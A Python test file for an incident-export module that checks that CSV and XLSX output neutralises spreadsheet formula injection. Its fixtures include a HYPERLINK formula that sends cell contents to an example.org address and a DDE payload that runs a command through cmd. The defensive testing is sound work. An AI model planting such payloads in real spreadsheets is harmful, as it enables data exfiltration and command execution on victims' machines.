"""Incidents as a table: a column for each thing, and nothing a spreadsheet would run."""

from __future__ import annotations

import csv
import tempfile
from dataclasses import replace
from datetime import date, datetime
from io import BytesIO, StringIO
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from halton_desktop.domain.incidents.step import Step, StepState
from halton_desktop.domain.incidents.step_kind import StepKind
from halton_desktop.exchange.incident_export import HEADINGS, ExportedIncident, row_of, safe_cell, write_csv, write_xlsx
from tests.domain.incidents.made_up import author, incident

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
INCIDENT = incident(author(1, name=FORMULA), place="@SUM(1+1)*cmd|' /C calc'!A0", account="+44 rang, then -1")
STEPS = (
    Step(1, 1, StepKind.CONTACT, StepState.DONE, done_on=date(2026, 11, 23)),
    Step(2, 1, StepKind.REMOVAL, StepState.PLANNED, due_on=date(2026, 11, 25)),
)


def written(incident: ExportedIncident) -> dict[str, str]:
    """One case through the CSV file and back."""
    out = BytesIO()
    write_csv([incident], out, lambda _done: None)
    assert out.getvalue().startswith(b"\xef\xbb\xbf")
    return next(csv.DictReader(StringIO(out.getvalue().decode("utf-8-sig"), newline="")))


def test_a_csv_has_ids_dates_and_a_column_for_each_clause_and_flag() -> None:
    row = written(ExportedIncident(INCIDENT, STEPS, with_account=True))
    assert tuple(row) == HEADINGS
    assert (row["id"], row["reference"], row["author_parent_ids"]) == ("1", "2026-0001", "1")
    assert (row["clause_3.1c"], row["clause_2.6"]) == ("yes", "")
    assert (row["next_step"], row["next_due_on"], row["contact_made_on"]) == ("Removal", "2026-11-25", "2026-11-23")


def test_what_looks_like_a_formula_is_plain_text_in_both_files() -> None:
    row = written(ExportedIncident(INCIDENT, (), with_account=True))
    for name in ("authors", "place", "account"):
        assert row[name].startswith("'")
    out = BytesIO()
    write_xlsx([ExportedIncident(INCIDENT, STEPS, with_account=True)], out, lambda _done: None)
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    kinds = {cell.data_type for line in sheet.iter_rows(min_row=2) for cell in line}
    assert "f" not in kinds
    assert [cell.value for cell in next(sheet.iter_rows(max_row=1))] == list(HEADINGS)
    assert sheet.cell(2, HEADINGS.index("happened_on") + 1).value == datetime(2026, 11, 23)  # noqa: DTZ001 - a day


@given(st.text(max_size=20))
def test_no_text_begins_as_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.endswith(text)


@given(st.text(max_size=50))
def test_any_account_can_be_written_to_a_workbook(text: str) -> None:
    odd = replace(INCIDENT, facts=replace(INCIDENT.facts, account=text))
    out = BytesIO()
    write_xlsx([ExportedIncident(odd, (), with_account=True)], out, lambda _done: None)
    assert out.getvalue().startswith(b"PK")


def test_a_workbook_is_never_laid_down_in_a_temporary_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    temporary = tmp_path / "temporary"
    temporary.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    seen: list[Path] = []

    def look(_done: int) -> None:
        seen.extend(temporary.iterdir())

    write_xlsx([ExportedIncident(INCIDENT, STEPS, with_account=True)] * 3, BytesIO(), look)
    assert seen == []


@pytest.mark.parametrize("text", ["Zoë O’Brien\n<b>&amp;", "a\x00b\x0b\ud800c", "  spaces  ", "x" * 40_000])
def test_what_is_written_to_a_workbook_is_what_is_read_back(text: str) -> None:
    odd = replace(INCIDENT, facts=replace(INCIDENT.facts, account=text))
    out = BytesIO()
    write_xlsx([ExportedIncident(odd, (), with_account=True)], out, lambda _done: None)
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    kept = "".join(sign for sign in text if sign not in "\x00\x0b\ud800")[:32_767]
    assert sheet.cell(2, len(HEADINGS)).value == kept
    assert sheet.cell(2, 1).value == 1
    assert sheet.freeze_panes == "C2"


def test_an_account_stays_out_where_it_should() -> None:
    assert row_of(ExportedIncident(INCIDENT, (), with_account=False))[-1] == ""
